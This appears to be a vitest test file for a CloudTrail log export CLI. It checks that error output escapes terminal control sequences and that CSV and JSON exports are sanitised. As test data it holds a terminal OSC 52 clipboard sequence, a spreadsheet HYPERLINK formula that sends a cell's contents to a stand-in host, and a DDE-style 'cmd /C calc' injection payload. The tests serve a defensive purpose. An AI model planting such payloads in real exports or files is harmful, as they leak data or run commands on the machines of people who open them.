import { afterEach, describe, expect, it, vi } from 'vitest';
import { execFileSync, spawnSync } from 'node:child_process';
import { caseFileWith, ctEvent } from '../helpers/case-file.js';
import { filterFromArgs } from '../../src/cli/filter-arg.js';
import { setJsonErrors } from '../../src/cli/json-errors.js';
import { compileFilter } from '../../src/query/index.js';
import { exportEvents } from '../../src/cli/export-run.js';
import { recordWriter } from '../../src/cli/commands/query.js';
import type { Sink } from '../../src/cli/output/sink.js';
import { safeJson } from '../../src/cli/safe-json.js';
import { neutraliseCsvCell } from '../../src/util/csv-cell.js';
import { wellFormedJsonText } from '../../src/util/json-text.js';

const OSC52 = '\u001b]52;c;ZXZpbA==\u0007';
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

/** Everything written to stdout and stderr while `f` runs. */
function capture(f: () => unknown): { out: string; err: string; result: unknown } {
  let out = '';
  let err = '';
  const o = vi
    .spyOn(process.stdout, 'write')
    .mockImplementation((c: string | Uint8Array) => ((out += String(c)), true));
  const e = vi
    .spyOn(process.stderr, 'write')
    .mockImplementation((c: string | Uint8Array) => ((err += String(c)), true));
  try {
    const result = f();
    return { result, out, err };
  } finally {
    o.mockRestore();
    e.mockRestore();
  }
}

afterEach(() => setJsonErrors(false));

describe('CLI filter errors quoting evidence', () => {
  it('a source IP holding / and an OSC 52 sequence: the error, the echo and the caret are escaped on stderr', () => {
    const r = capture(() => filterFromArgs('query', [`ip:1.2.3.4/${OSC52}`]));
    expect(r.result).toBeNull();
    expect(r.err).toContain('not a valid CIDR');
    expect(r.err).toContain('\\e]52;c;ZXZpbA==\\x07');
    expect(r.err).not.toMatch(RAW_CONTROL);
    // the caret line is as long as the echo above it, in columns
    const lines = r.err.split('\n');
    const echo = lines.find((l) => l.startsWith('  ip:'))!;
    const caret = lines[lines.indexOf(echo) + 1]!;
    expect(caret.length).toBeLessThanOrEqual(echo.length);
  });

  it('with --json the error is one JSON line on stdout, without raw control characters', () => {
    setJsonErrors(true);
    const r = capture(() => filterFromArgs('query', [`ip:1.2.3.4/${OSC52}`]));
    expect(r.out).not.toMatch(RAW_CONTROL);
    const parsed = JSON.parse(r.out) as { error: { message: string; kind: string } };
    expect(parsed.error.kind).toBe('filter');
    expect(parsed.error.message).toContain(OSC52); // JSON escapes it; the decoded value is exact
  });
});

/** A sink that keeps what is written. */
function memorySink(): Sink & { text: string } {
  const s = {
    text: '',
    closed: false,
    write(x: string) {
      s.text += x;
    },
    flush() {},
    close() {},
  };
  return s as unknown as Sink & { text: string };
}

function exported(
  records: Record<string, unknown>[],
  format: 'csv' | 'json' | 'jsonl',
  opts: { fields?: string[]; csvRaw?: boolean } = {},
): string {
  const db = caseFileWith(records);
  const sink = memorySink();
  const f = compileFilter('', { now: Date.now() });
  exportEvents(db, f, recordWriter(format, sink, opts.fields, false, opts.csvRaw));
  return sink.text;
}

describe('CSV for spreadsheets', () => {
  it('neutralises cells that start with = + - @ tab or CR (OWASP), and nothing else', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])
      expect(neutraliseCsvCell(s)).toBe(`'${s}`);
    for (const s of ['', 'a=1', ' =1', 'arn:aws:iam::1:user/x', "'quoted"])
      expect(neutraliseCsvCell(s)).toBe(s);
    expect(neutraliseCsvCell(null)).toBe('');
  });

  const evil = [
    ctEvent({
      eventName: '=HYPERLINK("http://x.example/?"&A1,"open")',
      userAgent: "@SUM(1+1)*cmd|' /C calc'!A0",
      sourceIPAddress: '-2+3',
    }),
  ];

  it('export --format csv (console columns and --fields) prefixes formula cells with a quote by default', () => {
    const csv = exported(evil, 'csv');
    expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`);
    expect(csv).toContain("'-2+3");
    expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
    const fields = exported(evil, 'csv', { fields: ['name', 'ua', 'ip'] });
    expect(fields.split('\r\n')[1]).toBe(
      `"'=HYPERLINK(""http://x.example/?""&A1,""open"")",'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3`,
    );
  });

  it('--csv-raw keeps the cells exactly', () => {
    const raw = exported(evil, 'csv', { fields: ['name', 'ip'], csvRaw: true });
    expect(raw.split('\r\n')[1]).toBe(`"=HYPERLINK(""http://x.example/?""&A1,""open"")",-2+3`);
  });
});

describe('JSON for strict parsers', () => {
  const loneRaw = [
    '{"a":"\\ud800","b":"x\\\\ud800","c":"\\ud83d\\ude00","d":"\\udc00\\ud800z","e":"\ud800"}',
  ];

  it('lone surrogates, escaped or raw, become the text \\udXXX; pairs and literal backslashes are kept', () => {
    const out = wellFormedJsonText(loneRaw[0]!);
    const v = JSON.parse(out) as Record<string, string>;
    expect(v).toEqual({ a: '\\ud800', b: 'x\\ud800', c: '😀', d: '\\udc00\\ud800z', e: '\\ud800' });
    expect(wellFormedJsonText('{"ok":"plain 😀 \\n"}')).toBe('{"ok":"plain 😀 \\n"}');
  });

  it('export --format jsonl / json: every line decodes as strict UTF-8 and parses, also in jq', () => {
    const rec = ctEvent({
      userAgent: 'lone \ud800 high',
      requestParameters: { k: 'low \udc00', tag: 'ad\u{E0061}min' },
    });
    for (const format of ['jsonl', 'json'] as const) {
      const text = exported([rec, ctEvent()], format);
      const bytes = Buffer.from(text, 'utf8');
      const decoded = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
      expect(decoded).toBe(text);
      expect(wellFormedJsonText(text)).toBe(text); // nothing left to rewrite
      const lines = format === 'jsonl' ? text.trim().split('\n') : [text];
      const parsed = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
      const first =
        format === 'jsonl'
          ? parsed[0]!
          : (parsed[0] as { Records: Record<string, unknown>[] }).Records[0]!;
      expect(first.userAgent).toBe('lone \\ud800 high');
      expect((first.requestParameters as Record<string, string>).tag).toBe('ad\u{E0061}min');
      const jq = spawnSync('jq', ['-c', '.'], { input: bytes });
      if (!jq.error) expect(jq.status, jq.stderr.toString()).toBe(0);
    }
  });

  it('safeJson (every --json) shows no invisible character and stays valid for jq', () => {
    const value = { who: 'ad\u{E0061}min', ua: 'a\u009b31m\u202e\u00ad\ufe0f', lone: '\ud800' };
    const text = safeJson(value);
    expect(text).not.toMatch(/[\u0080-\u009f\u00ad\u202e\ufe0f]|\udb40/);
    expect(JSON.parse(text)).toEqual({ ...value, lone: '\\ud800' });
    let jqOk = true;
    try {
      execFileSync('jq', ['-e', '.who'], { input: text });
    } catch (err) {
      jqOk = (err as NodeJS.ErrnoException).code === 'ENOENT';
    }
    expect(jqOk).toBe(true);
  });
});
